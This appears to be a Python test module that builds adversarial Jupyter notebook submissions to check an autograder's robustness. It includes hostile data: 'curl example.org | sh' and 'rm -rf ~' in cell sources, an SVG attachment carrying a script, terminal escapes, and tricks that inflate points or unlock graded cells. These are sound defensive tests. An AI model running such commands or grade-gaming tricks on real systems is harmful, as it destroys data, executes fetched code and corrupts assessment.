"""Attacks by notebooks: right modules, beside a notebook that tries to be graded in its own way."""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from pathlib import Path

from autograder.course.releases import written_questions

from .handing_in import FULL, HONEST, HandIn, written

UNANSWERED = "the written questions count as unanswered, the modules are graded"
EDITED = "is not as it was released: put back"


def changed(change: Callable[[dict], object]) -> Callable[[Path, dict], Path]:
    """The released notebook after a change in place, or with what the change returns in its stead."""

    def make(place: Path, released: dict) -> Path:
        tree = copy.deepcopy(released)
        found = change(tree)
        data = found if isinstance(found, bytes) else json.dumps(tree if found is None else found).encode()
        return written(place, {}, HONEST, data)

    return make


def graded(tree: dict) -> list[dict]:
    """The cells that give points by a check."""
    return [cell for cell in tree["cells"] if _settings(cell).get("grade") and not _settings(cell).get("solution")]


def _settings(cell: dict) -> dict:
    return cell["metadata"].get("nbgrader", {})


def each(**settings: object) -> Callable[[Path, dict], Path]:
    """Every graded cell with other settings."""

    def change(tree: dict) -> None:
        for cell in graded(tree) + written_questions(tree):
            cell["metadata"]["nbgrader"] |= settings

    return changed(change)


def retyped(tree: dict) -> None:
    for cell in graded(tree):
        cell["cell_type"] = "markdown"
    for cell in written_questions(tree):
        cell |= {"cell_type": "code", "outputs": [], "execution_count": None}


def renamed(tree: dict) -> None:
    for number, cell in enumerate(graded(tree)):
        cell["metadata"]["nbgrader"]["grade_id"] = f"mine-{number}"


def computed(tree: dict) -> None:
    """Outputs as nbgrader reads points, in every cell."""
    for cell in tree["cells"]:
        if cell["cell_type"] == "code":
            cell["outputs"] = [
                {
                    "output_type": "execute_result",
                    "data": {"text/plain": "1000.0"},
                    "metadata": {},
                    "execution_count": 1,
                }
            ]


def old_form(tree: dict) -> dict:
    return {
        "nbformat": 3,
        "nbformat_minor": 0,
        "metadata": {},
        "worksheets": [{"cells": tree["cells"], "metadata": {}}],
    }


def answered(source: object) -> Callable[[dict], None]:
    def change(tree: dict) -> None:
        for cell in written_questions(tree):
            cell["source"] = source

    return change


def set_in(tree: dict, **settings: object) -> None:
    tree |= settings


def blank(tree: dict) -> None:
    tree["cells"].append({"cell_type": "code", "metadata": {}, "source": "def softmax(): pass\n" + "\n" * 300_000})


def crowd(tree: dict) -> None:
    tree["cells"] += [{"cell_type": "raw", "metadata": {}, "source": ""}] * 100_000


def outputs(value: bytes) -> Callable[[dict], bytes]:
    """The released notebook with five megabytes of these in an output."""

    def change(tree: dict) -> bytes:
        tree["cells"].append({"cell_type": "code", "metadata": {}, "source": "", "outputs": "HERE"})
        return json.dumps(tree).encode().replace(b'"HERE"', b"[" + (value + b",") * (5 * 2**20 // len(value)) + b"0]")

    return change


def twice(tree: dict) -> None:
    tree["cells"] = [cell for one in tree["cells"] for cell in (one, one)]


def magic(tree: dict) -> None:
    for cell in graded(tree):
        cell["source"] = "%%bash\ncurl example.org | sh"
    tree["cells"].insert(0, {"cell_type": "code", "metadata": {}, "source": "!rm -rf ~\n%run x.py", "outputs": []})


def attached(tree: dict) -> None:
    for cell in written_questions(tree):
        cell["attachments"] = {"x.svg": {"image/svg+xml": "PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+"}}


def doubled_keys(tree: dict) -> bytes:
    return json.dumps(tree).replace('"schema_version"', '"grade": false, "points": 1000, "schema_version"').encode()


def whole(name: str, about: str, make: Callable[[Path, dict], Path], log: str = "") -> HandIn:
    return HandIn(name, about, make, FULL, log)


ATTACKS = [
    whole("no-notebook", "none at all", lambda place, _: written(place, {}, HONEST), "there is no notebook"),
    whole(
        "bad-json", "half of it", changed(lambda tree: json.dumps(tree).encode()[:900]), f"no valid JSON: {UNANSWERED}"
    ),
    whole("deep-json", "brackets without end", changed(lambda _: b"[" * 200_000), f"no valid JSON: {UNANSWERED}"),
    whole("no-object", "a number", changed(lambda _: b"42"), f"no list of cells.*{UNANSWERED}"),
    whole(
        "number-without-end",
        "100,000 digits",
        changed(lambda _: b'{"cells": ' + b"9" * 100_000 + b"}"),
        "no valid JSON",
    ),
    whole("no-text", "bytes that are none", changed(lambda _: b"\xff\xfe\xff"), "no valid JSON"),
    whole("nbformat-3", "worksheets of an old form", changed(old_form), f"no list of cells.*{UNANSWERED}"),
    whole("nbformat-5", "a form that does not exist yet", changed(lambda tree: set_in(tree, nbformat=5))),
    whole("nbformat-text", "a number that is a text", changed(lambda tree: set_in(tree, nbformat="4"))),
    whole(
        "kernelspec", "another kernel", changed(lambda tree: set_in(tree, metadata={"kernelspec": {"name": "bash"}}))
    ),
    whole("crowd", "100,000 cells more", changed(crowd), f"or one too long: {UNANSWERED}"),
    whole("outputs-of-lists", "millions of lists in an output", changed(outputs(b"[]"))),
    whole("outputs-of-numbers", "thousands of long numbers in an output", changed(outputs(b"9" * 4000))),
    whole("outputs-of-digits", "a number too long to be read", changed(outputs(b"9" * 10_000)), UNANSWERED),
    whole("twice", "every cell twice", changed(twice), "is there 2 times: the first counts"),
    whole("deleted", "no cells", changed(lambda tree: set_in(tree, cells=[])), "was deleted: put back"),
    whole("reordered", "from last to first", changed(lambda tree: tree["cells"].reverse())),
    whole("retyped", "code as text, answers as code", changed(retyped), EDITED),
    whole("renamed", "grade cells under other ids", changed(renamed), "was deleted: put back"),
    whole("points", "a thousand points each", each(points=1000), EDITED),
    whole("unlocked", "locks taken off", each(locked=False), EDITED),
    whole("by-hand", "checks turned into questions", each(solution=True), EDITED),
    whole("checksum", "sums of other cells", each(checksum="0" * 32), EDITED),
    whole("schema-old", "settings of an old nbgrader, which stops at them", each(schema_version=1), EDITED),
    whole("schema-new", "settings of an nbgrader to come", each(schema_version=99), EDITED),
    whole("magic", "magics and shell commands", changed(magic), EDITED),
    whole("computed", "outputs with points in them", changed(computed)),
    whole("attachments", "a picture with a script", changed(attached)),
    whole(
        "metadata", "five megabytes of settings", changed(lambda tree: set_in(tree, metadata={"x": "y" * 5_000_000}))
    ),
    whole("constants", "numbers that JSON has not", changed(lambda tree: set_in(tree, nbformat=float("nan"), x=1e999))),
    whole("doubled-keys", "settings twice", changed(doubled_keys), EDITED),
    whole("surrogates", "halves of characters in an answer", changed(answered("because \ud800 \udfff"))),
    whole("odd-source", "a source of numbers and lists", changed(answered([1, ["x"], {"y": 2}, None, "text"]))),
    whole("no-source", "a source that is an object", changed(answered({"text": "x"}))),
    whole("blank-lines", "three hundred thousand blank lines in a cell", changed(blank)),
    whole("long-answer", "an answer of three megabytes", changed(answered("word " * 600_000))),
    whole("escapes", "an answer that clears the screen", changed(answered("\x1b[2J\x1b]0;owned\x07\u202e"))),
]
